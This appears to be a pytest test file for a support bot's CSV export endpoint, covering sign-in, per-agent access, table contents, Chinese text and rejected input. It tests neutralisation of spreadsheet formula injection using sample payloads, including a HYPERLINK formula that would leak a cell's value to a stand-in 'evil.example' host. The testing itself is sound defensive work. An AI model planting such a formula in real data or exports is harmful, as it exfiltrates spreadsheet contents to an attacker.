"""``GET /api/insights/export.csv`` on the insights dataset (:mod:`tests.support.insights_dataset`,
Monday 2 and Tuesday 3 March 2026): behind the sign-in, what an agent and an admin get, each
table, cells that would run as formulas in a spreadsheet, Chinese text for Excel, bad input. On
both databases."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from sqlalchemy import select, update

from bot.store.models import Conversation, Customer, FaqAddition
from bot.web.console.csv_cells import safe_cell
from tests.bot.conftest import sign_in
from tests.support.insights_dataset import Seed, seed

EXPORT = "/api/insights/export.csv"
BOTH_DAYS = "from=2026-03-02&to=2026-03-03"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"查看订单")'
HOSTILE_NAMES = {"web-c1": LINK, "web-c2": "+86 138", "oC3": "-1+1", "web-c4": "@SUM(A1:A9)"}
CHINESE_NAME = "王小明"
CONVERSATION_HEADER = [
    "conversation_id",
    "customer_id",
    "customer_name",
    "channel",
    "language",
    "started_at",
    "last_message_at",
    "customer_messages",
    "questions",
    "answered",
    "clarified",
    "not_found",
    "helpful",
    "not_helpful",
    "bot_resolved",
    "handed_over",
    "handoff_reason",
    "tickets",
    "ticket_id",
    "agent",
    "first_response_seconds",
    "first_response_business_seconds",
    "resolution_seconds",
    "resolution_business_seconds",
    "rating",
]


async def name_customers(sessions) -> dict[str, int]:
    """The dataset's customers named (C1..C4 like formulas, C5 in Chinese); conversation ids by
    sender id."""
    names = {**HOSTILE_NAMES, "c5": CHINESE_NAME}
    async with sessions() as session, session.begin():
        ids = dict((await session.execute(select(Conversation.sender_id, Conversation.id))).all())
        for sender, name in names.items():
            owner = select(Conversation.customer_id).where(Conversation.sender_id == sender)
            await session.execute(
                update(Customer).where(Customer.id == owner.scalar_subquery()).values(name=name)
            )
    return ids


async def download(client, query: str, status: int = 200):
    """The response and its records (the byte order mark checked and dropped)."""
    response = await client.get(f"{EXPORT}?{query}")
    body = await response.read()
    assert response.status == status, body.decode(errors="replace")
    assert body.startswith("\ufeff".encode())
    return response, list(csv.reader(io.StringIO(body.decode("utf-8")[1:], newline="")))


def records(rows: list[list[str]]) -> list[dict[str, str]]:
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=b", "a=b"),
        ("退款", "退款"),
        ("", ""),
        (-1, -1),
        (2.5, 2.5),
        (None, ""),
        (True, "yes"),
        (False, "no"),
    ],
)
def test_text_that_could_start_a_formula_gets_a_quote_numbers_stay(value, cell):
    assert safe_cell(value) == cell


async def test_no_export_without_a_session(client, sessions):
    await seed(sessions)
    for table in ("conversations", "series"):
        response = await client.get(f"{EXPORT}?table={table}&{BOTH_DAYS}")
        assert response.status == 401
        assert (await response.json())["error"] == "sign in first"


async def test_one_row_per_conversation_as_the_report_counts_them(client, sessions):
    await seed(sessions)
    ids = await name_customers(sessions)
    await sign_in(client, "bob")
    response, rows = await download(client, f"table=conversations&{BOTH_DAYS}")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="insights-conversations-2026-03-02-2026-03-03.csv"'
    )
    # Streamed, yet with the headers every answer carries.
    assert response.headers["X-Frame-Options"] == "DENY"
    assert "default-src 'self'" in response.headers["Content-Security-Policy"]
    assert response.headers["Cache-Control"] == "no-store"

    assert rows[0] == CONVERSATION_HEADER
    _, same = await download(client, BOTH_DAYS)  # what the dashboard's link asks: no table
    assert same == rows
    found = {int(row["conversation_id"]): row for row in records(rows)}
    report = await (await client.get(f"/api/insights?{BOTH_DAYS}")).json()
    assert len(found) == report["conversations"] == 7
    for name in ("bot_resolved", "handed_over"):
        assert sum(row[name] == "yes" for row in found.values()) == report[name]
    for name in ("customer_messages", "questions", "answered", "clarified", "not_found"):
        assert sum(int(row[name]) for row in found.values()) == report[name]

    c2 = found[ids["web-c2"]]
    assert (c2["channel"], c2["language"], c2["started_at"]) == (
        "socketio",
        "zh",
        "2026-03-02 11:00:00",  # on the business clock (Shanghai)
    )
    assert (c2["handed_over"], c2["handoff_reason"], c2["agent"], c2["rating"]) == (
        "yes",
        "not_helpful",
        "Bob",
        "4",
    )
    assert (c2["first_response_seconds"], c2["resolution_seconds"]) == ("1800.0", "3600.0")
    c4 = found[ids["web-c4"]]
    assert (c4["bot_resolved"], c4["handed_over"], c4["ticket_id"]) == ("no", "no", "")


async def test_text_that_a_spreadsheet_would_run_is_neutralised(client, sessions):
    await seed(sessions)
    ids = await name_customers(sessions)
    await sign_in(client, "ann")
    response, rows = await download(client, f"table=conversations&{BOTH_DAYS}")
    names = {int(row[0]): row[2] for row in rows[1:]}
    for sender, name in HOSTILE_NAMES.items():
        assert names[ids[sender]] == "'" + name
    assert names[ids["c5"]] == CHINESE_NAME  # intact, and not prefixed
    assert names[ids["web-c7"]] == ""
    # Numbers stay numbers; the customers' ids (the channels' sender ids) are never written.
    assert all(row[7].isdigit() for row in rows[1:])
    text = (await response.read()).decode("utf-8")
    assert not any(sender in text for sender in ("web-c1", "oC3", "oC6", "c5,"))


async def test_the_series_one_row_a_day(client, sessions):
    await seed(sessions)
    await sign_in(client, "bob")
    response, rows = await download(client, f"table=series&{BOTH_DAYS}&group=day")
    assert response.headers["Content-Disposition"].endswith(
        'filename="insights-series-2026-03-02-2026-03-03.csv"'
    )
    header = rows[0]
    assert header[:4] == ["from", "to", "conversations", "conversations_with_questions"]
    assert {"handoffs_by_reason_complaint", "tickets_by_reason_clarification_refused"} <= set(
        header
    )
    assert {"first_response_seconds_median", "satisfaction_distribution_5"} <= set(header)
    monday, tuesday = records(rows)
    assert (monday["from"], monday["conversations"], monday["bot_resolved"]) == (
        "2026-03-02",
        "6",
        "1",
    )
    assert (tuesday["conversations"], tuesday["handed_over"], tuesday["tickets"]) == ("2", "1", "1")
    assert monday["handoffs_by_reason_complaint"] == "0"  # every reason on every row
    assert tuesday["handoffs_by_reason_complaint"] == "1"
    assert monday["first_response_seconds_p90"] == "57600.0"  # T3: over the night
    assert tuesday["first_response_seconds_median"] == ""  # no reply on Tuesday: no figure
    weeks = records((await download(client, f"table=series&{BOTH_DAYS}&group=week"))[1])
    assert [(w["from"], w["to"], w["conversations"]) for w in weeks] == [
        ("2026-03-02", "2026-03-03", "7")
    ]


async def test_handoff_reasons(client, sessions):
    await seed(sessions)
    await sign_in(client, "bob")
    _, rows = await download(client, f"table=handoff_reasons&{BOTH_DAYS}&channel=wechat")
    assert rows[0] == ["reason", "handed_over", "handoff_rate", "tickets"]
    reasons = {row["reason"]: row for row in records(rows)}
    assert (reasons["not_found"]["handed_over"], reasons["not_found"]["handoff_rate"]) == (
        "1",
        "0.5",
    )
    assert reasons["complaint"]["handed_over"] == "0"  # C7 is the widget's
    assert sum(int(row["tickets"]) for row in reasons.values()) == 2


async def test_an_agent_gets_their_own_row_an_admin_every_agent(client, sessions):
    ids = await seed(sessions)
    await sign_in(client, "bob")
    _, rows = await download(client, f"table=agents&{BOTH_DAYS}")
    assert rows[0][:4] == ["id", "username", "name", "tickets"]
    assert "satisfaction_average" in rows[0]
    (bob,) = records(rows)
    assert (bob["username"], bob["tickets"], bob["ratings"], bob["satisfaction_average"]) == (
        "bob",
        "2",
        "2",
        "3.0",
    )
    refused = await client.get(f"{EXPORT}?table=agents&{BOTH_DAYS}&agent={ids['ann']}")
    assert refused.status == 403
    assert "own figures" in (await refused.json())["error"]

    await sign_in(client, "ann")
    everyone = records((await download(client, f"table=agents&{BOTH_DAYS}"))[1])
    assert [row["username"] for row in everyone] == ["ann", "bob"]
    bobs = records(
        (await download(client, f"table=conversations&{BOTH_DAYS}&agent={ids['bob']}"))[1]
    )
    assert {row["agent"] for row in bobs if row["ticket_id"]} == {"Bob"}
    assert sum(int(row["tickets"]) for row in bobs) == 2


async def test_faq_entries_with_their_questions(client, sessions):
    await seed(sessions)
    question = "=1+1 退款"
    async with sessions() as session, session.begin():
        session.add(
            FaqAddition(
                entry_id="gift_wrap", kind="entry", language="zh", question=question,
                answer="可以。", category="@orders", created_at=datetime.now(UTC),
            )
        )  # fmt: skip
        s = Seed(session, key_prefix="faq")
        conversation, _ = await s.conversation("web-gift", "socketio", "03-03 09:00")
        await s.say(
            conversation, "03-03 09:00", faq_id="gift_wrap", faq_decision="answer", language="zh"
        )
    await sign_in(client, "bob")
    _, rows = await download(client, f"table=faq_entries&{BOTH_DAYS}")
    assert rows[0] == [
        "entry_id",
        "category",
        "question_zh",
        "question_en",
        "answered",
        "clarification_choices",
        "helpful",
        "not_helpful",
        "handoffs_after",
    ]
    entries = {row["entry_id"]: row for row in records(rows)}
    assert set(entries) == {"gift_wrap", "invoice", "order_track", "password_reset", "refund_time"}
    gift = entries["gift_wrap"]
    assert (gift["category"], gift["question_zh"], gift["question_en"]) == (
        "'@orders",
        "'" + question,
        "",
    )
    track = entries["order_track"]
    assert (track["question_zh"], track["answered"], track["helpful"]) == (
        "我的订单到哪了？",
        "1",
        "1",
    )
    assert entries["refund_time"]["handoffs_after"] == "1"


@pytest.mark.parametrize(
    ("query", "message"),
    [
        (f"table=customers&{BOTH_DAYS}", "table is one of series, handoff_reasons, agents"),
        (f"table=&{BOTH_DAYS}&language=fr", "language is one of"),
        ("table=conversations&from=2026-03-02", "to is missing"),
        ("table=series&from=2026-03-04&to=2026-03-03", "is after"),
        (f"table=conversations&{BOTH_DAYS}&channel=fax", "channel is one of"),
        (f"table=series&{BOTH_DAYS}&group=month", "group is one of"),
        (f"table=conversations%00&{BOTH_DAYS}", "not allowed"),
    ],
)
async def test_bad_input_is_a_json_400(client, query, message):
    await sign_in(client, "bob")
    response = await client.get(f"{EXPORT}?{query}")
    assert response.status == 400
    assert response.headers["Content-Type"].startswith("application/json")
    assert message in (await response.json())["error"]
